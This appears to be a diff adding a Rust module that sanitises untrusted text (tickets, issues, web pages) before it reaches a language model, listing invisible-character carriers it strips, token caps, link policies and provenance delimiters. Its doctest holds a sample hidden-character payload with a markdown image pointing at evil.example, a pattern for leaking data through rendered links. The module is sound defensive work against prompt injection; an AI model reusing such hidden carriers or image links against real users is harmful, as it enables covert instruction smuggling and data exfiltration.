@@ -1,0 +1,57 @@
+//! Untrusted text: what someone outside the system wrote (ticket subjects, issue bodies, web
+//! pages), made safe to put in front of a model.
+//!
+//! Every value of an `untrusted` field goes through [`prepare`], in this order:
+//!
+//! 1. **Byte cap.** With a cap of `N` tokens, at most `(N + 1) × max_token_bytes` bytes of
+//!    sanitised text are kept (no token covers more bytes than that, so `N + 1` tokens always
+//!    fit), and at most four times that is read: a 100 MB field is never tokenized whole.
+//! 2. **Sanitising** ([`sanitize`]): invisible carriers are removed (Unicode tag characters
+//!    outside the recommended subdivision flags, bidi controls, zero-width characters, other
+//!    invisible format characters, stray variation selectors, C0 and C1 controls other than
+//!    newline and tab, ANSI escape sequences), and U+2028 / U+2029 become newlines.
+//! 3. **Links** ([`UrlPolicy`]): kept, flagged or stripped, by configuration.
+//! 4. **Token cap** at a token boundary of the real tokenizer, with a marker saying how much was
+//!    cut: `… [cut: 1,840 more tokens]`.
+//!
+//! In the text channel the result is then wrapped in a provenance delimiter naming its source,
+//! `<untrusted source="search_tickets.subject">…</untrusted>`, after [`neutralize`] has defused
+//! anything in the content that reads as that delimiter; optionally the delimiter carries the
+//! call's random nonce and the content is datamarked. In the structured (JSON) channel the value
+//! is sanitised and capped only: JSON string escaping already keeps content inside its string.
+//!
+//! [`attacker_bound`] computes, from a projection and a budget, the most attacker-controlled
+//! tokens one call can show; each call's [`UntrustedStats::attacker_tokens`] is the actual figure.
+//!
+//! ```
+//! use toolshape::untrusted::{prepare, UrlPolicy};
+//! use toolshape::Tiktoken;
+//!
+//! let o200k = Tiktoken::o200k_base();
+//! let text = "Refund\u{200B} please\u{E0041}\u{E0042} ![x](https://evil.example/p?d=1)";
+//! let p = prepare(text, Some(40), &o200k, UrlPolicy::Flag);
+//! assert_eq!(p.content, "Refund please x [image removed: evil.example]");
+//! assert_eq!(p.removed.zero_width, 1);
+//! assert_eq!(p.removed.tag_chars, 2);
+//! assert_eq!(p.links, 1);
+//! assert!(p.cut.is_none());
+//! ```
+
+mod bound;
+mod cap;
+mod links;
+mod neutralise;
+mod policy;
+mod render;
+mod sanitise;
+#[cfg(test)]
+mod tests;
+
+pub use bound::{AttackerBound, attacker_bound, record_cap};
+pub use cap::{Cut, Prepared, prepare};
+pub use links::apply_url_policy;
+pub use neutralise::neutralize;
+pub use policy::{Provenance, UntrustedPolicy, UrlPolicy};
+pub use render::UntrustedStats;
+pub(crate) use render::{UntrustedCall, nonce, note_line, serialize_untrusted};
+pub use sanitise::{Removed, sanitize};
